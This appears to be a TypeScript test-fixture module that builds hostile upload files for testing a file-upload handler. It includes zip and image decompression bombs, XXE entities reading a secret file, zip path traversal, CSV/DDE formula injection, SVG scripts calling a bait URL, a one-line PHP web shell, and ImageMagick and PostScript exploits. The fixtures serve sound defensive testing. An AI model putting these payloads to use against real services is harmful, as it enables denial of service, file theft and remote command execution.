import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { bmp, floodGif, jpegClaiming, packedChunk, png } from './pictures.ts'
import { lyingZip, nestedZip, textRow, workbook } from './zips.ts'

export interface Hostile {
  /** Also its file name, with the extension of what it claims to be. */
  name: string
  bytes: Buffer
}

/** Where a file could reach out to: an address that listens, and a file with a secret. */
export interface Bait {
  url: string
  file: string
}

const MB = 1024 ** 2
const heading = textRow(['编号', '位置'])
const laughs = (root: string) =>
  `<!DOCTYPE ${root} [<!ENTITY a "lol">${Array.from(
    { length: 10 },
    (_, at) => `<!ENTITY ${'bcdefghijk'[at]} "${`&${'abcdefghij'[at]};`.repeat(10)}">`,
  ).join('')}]>`

/** Numbers from 0 up to 1 that a seed decides (mulberry32). */
export function randomOf(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** Uploads that mean harm, and `mutants` of sound files with cut ends and turned bits. */
export async function hostileFiles(
  bait: Bait,
  { seed, mutants }: { seed: number; mutants: number },
): Promise<Hostile[]> {
  const raw = { width: 300, height: 200, channels: 3, background: '#0A6' } as const
  const jpeg = await sharp({ create: raw }).jpeg().toBuffer()
  const webp = await sharp({ create: raw }).webp().toBuffer()
  const sound = { 'a.jpg': jpeg, 'a.webp': webp, 'a.png': await sharp({ create: raw }).png().toBuffer() }
  const sheet = workbook({ rows: heading + textRow(['FH-1', '一楼'], 2) })
  const all = {
    ...workbooks(bait),
    ...texts(bait),
    ...drawings(bait),
    ...pictures(jpeg),
    ...masks(sound['a.png'], sheet),
  }
  const files = Object.entries(all).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) }))
  return [...files, ...mutantsOf({ ...sound, 'a.xlsx': sheet }, randomOf(seed), mutants)]
}

function workbooks({ url, file }: Bait): Record<string, Buffer> {
  const xml = '<?xml version="1.0" encoding="UTF-8"?>'
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
  const entity = (target: string) =>
    `${xml}<!DOCTYPE sst [<!ENTITY x SYSTEM "${target}">]><sst ${main}><si><t>&x;</t></si></sst>`
  const shared = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
  const zeros = Buffer.alloc(40 * MB, '<row/>')
  const link = `${xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${url}/book.xlsx" TargetMode="External"/></Relationships>`
  const bomb = workbook({
    sheet: `${xml}<worksheet ${main}><sheetData>${zeros.toString('latin1')}</sheetData></worksheet>`,
  })
  const formula = (text: string) =>
    workbook({ rows: `${heading}<row r="2"><c r="A2"><f>${text}</f><v>1</v></c></row>` })
  return {
    'bomb.xlsx': bomb,
    'bomb-that-lies.xlsx': lyingZip(bomb, 10),
    'said-too-large.xlsx': lyingZip(workbook({ rows: heading }), 0xfffffffe),
    'forty-two.xlsx': nestedZip(4, workbook({ more: { 'zeros.bin': Buffer.alloc(8 * MB) } })),
    'many-entries.xlsx': workbook({
      more: Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`x/${at}`, Buffer.of()])),
    }),
    'climbing.xlsx': workbook({
      rows: heading,
      more: { '../../../../../../tmp/climbed': Buffer.from('x'), '/etc/climbed': Buffer.from('x') },
    }),
    'laughs.xlsx': workbook({ rows: shared, strings: `${xml}${laughs('sst')}<sst ${main}><si><t>&k;</t></si></sst>` }),
    'entity-file.xlsx': workbook({ rows: shared, strings: entity(`file://${file}`) }),
    'entity-net.xlsx': workbook({ rows: shared, strings: entity(`${url}/entity`) }),
    'external-link.xlsx': workbook({
      rows: heading,
      more: { 'xl/externalLinks/_rels/externalLink1.xml.rels': Buffer.from(link) },
    }),
    'webservice.xlsx': formula(`WEBSERVICE("${url}/formula")`),
    'command.xlsx': formula("cmd|' /C calc'!A0"),
    'far-cell.xlsx': workbook({ rows: '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>' }),
    'beyond-far-cell.xlsx': workbook({ rows: '<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>' }),
    'wrong-string.xlsx': workbook({
      rows: '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c></row>',
    }),
    'long-text.xlsx': workbook({ rows: textRow(['x'.repeat(8 * MB)]) }),
    'deep.xlsx': workbook({ sheet: `${xml}${'<a>'.repeat(200_000)}` }),
    'slow-format.xlsx': workbook({
      rows: '<row r="1"><c r="A1" s="0"><v>45000.5</v></c></row>',
      styles: `${xml}<styleSheet ${main}><numFmts count="1"><numFmt numFmtId="200" formatCode="${'[$-'.repeat(50_000)}"/></numFmts><cellXfs count="1"><xf numFmtId="200" applyNumberFormat="1"/></cellXfs></styleSheet>`,
    }),
    'no-parts.xlsx': Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1'),
    'locked.xls': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4_096)]),
  }
}

function texts({ url }: Bait): Record<string, string | Buffer> {
  return {
    'command.csv': `编号,位置\n=cmd|' /C calc'!A0,@SUM(1+1)\n+1,-1\n"=HYPERLINK(""${url}"")",x\n`,
    'one-line.csv': 'x'.repeat(700_000),
    'many-columns.csv': ','.repeat(700_000),
    'many-rows.csv': 'a\n'.repeat(350_000),
    'open-quote.csv': `编号,位置\n"${'a,b\n'.repeat(100_000)}`,
    'nul.csv': Buffer.from('a,b\0c\n', 'latin1'),
    'half-utf16.csv': Buffer.from('fffe41', 'hex'),
    'no-text.csv': Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xff]),
    'empty.csv': '',
    'a.php': '<?php system($_GET["c"]); ?>',
  }
}

function drawings({ url, file }: Bait): Record<string, string> {
  const svg = (inside: string, look = 'width="100" height="100"') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${look}>${inside}</svg>`
  return {
    'script.svg': svg(`<script>fetch("${url}/script")</script>`),
    'foreign.svg': svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"/></foreignObject>`,
    ),
    'href-net.svg': svg(`<image xlink:href="${url}/picture.png" width="9" height="9"/>`),
    'href-file.svg': svg(
      `<image href="file://${file}" width="9" height="9"/><text><tref xlink:href="file://${file}"/></text>`,
    ),
    'laughs.svg': `<?xml version="1.0"?>${laughs('svg')}${svg('<text>&k;</text>')}`,
    'entity.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${file}">]>${svg('<text>&x;</text>')}`,
    'style-net.svg': `<?xml-stylesheet href="${url}/style.css"?>${svg(`<style>@import "${url}/import.css";</style>`)}`,
    'huge.svg': svg('<rect width="100%" height="100%"/>', 'width="200000" height="200000"'),
    'round.svg': svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    'picture.png': svg(`<image href="${url}/as-png.png"/>`),
  }
}

function pictures(jpeg: Buffer): Record<string, Buffer> {
  return {
    'flood.png': png({ width: 20_000, height: 20_000 }),
    'almost-flood.png': png({ width: 7_000, height: 7_000, depth: 8, colour: 6 }),
    'deep-colours.png': png({ width: 5_000, height: 5_000, depth: 16, colour: 6 }),
    'claims-most.png': png({ width: 2 ** 31 - 1, height: 2 ** 31 - 1, rows: 0, depth: 8 }),
    'nothing.png': png({ width: 0, height: 0 }),
    'text-bomb.png': png({ width: 8, height: 8, before: [packedChunk('zTXt', 48 * MB)] }),
    'profile-bomb.png': png({ width: 8, height: 8, before: [packedChunk('iCCP', 48 * MB)] }),
    'no-palette.png': png({ width: 100, height: 100, depth: 8, colour: 3 }),
    'ends-soon.png': png({ width: 3_000, height: 3_000, rows: 3 }),
    'long.png': png({ width: 1, height: 1_000_000 }),
    'flood.gif': floodGif(4_000),
    'claims-most.jpg': jpegClaiming(jpeg, 65_500, 65_500),
    'twenty-thousand.jpg': jpegClaiming(jpeg, 20_000, 20_000),
    'claims-most.bmp': bmp(2_000_000_000, 2_000_000_000),
    'negative.bmp': bmp(-7_000, -7_000),
    'most-allowed.bmp': bmp(7_000, 7_000),
  }
}

/** Files that pretend to be others. */
function masks(sound: Buffer, sheet: Buffer): Record<string, Buffer> {
  const html = Buffer.from('<!doctype html><script>alert(1)</script>')
  return {
    'html.png': html,
    'gif-and-script.gif': Buffer.concat([Buffer.from('GIF89a/*'), html, Buffer.from('*/=1;')]),
    'png-and-zip.png': Buffer.concat([sound, sheet]),
    'zip-and-png.xlsx': Buffer.concat([sound, sheet]),
    'png-magic-only.png': Buffer.concat([sound.subarray(0, 8), Buffer.alloc(2_000, 0x41)]),
    'pdf.jpg': Buffer.from('%PDF-1.7\n/JavaScript (app.launchURL("http://127.0.0.1/"))'),
    'elf.png': Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(500)]),
    'postscript.jpg': Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
    'delegate.mvg': Buffer.from('push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context'),
    'gzip-bomb.xlsx': gzipSync(Buffer.alloc(48 * MB)),
    'film.png': Buffer.concat([Buffer.from('00000018667479706d703432', 'hex'), Buffer.alloc(1_000)]),
  }
}

function mutantsOf(sound: Record<string, Buffer>, random: () => number, count: number): Hostile[] {
  const names = Object.keys(sound)
  return Array.from({ length: count }, (_, at) => {
    const name = names[at % names.length] ?? ''
    const bytes = Buffer.from(sound[name] ?? [])
    const flips = 1 + Math.floor(random() * 12)
    for (let flip = 0; flip < flips; flip += 1) bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256)
    const end = random() < 0.4 ? Math.floor(random() * bytes.length) : bytes.length
    return { name: `mutant-${at}-${name}`, bytes: bytes.subarray(0, end) }
  })
}
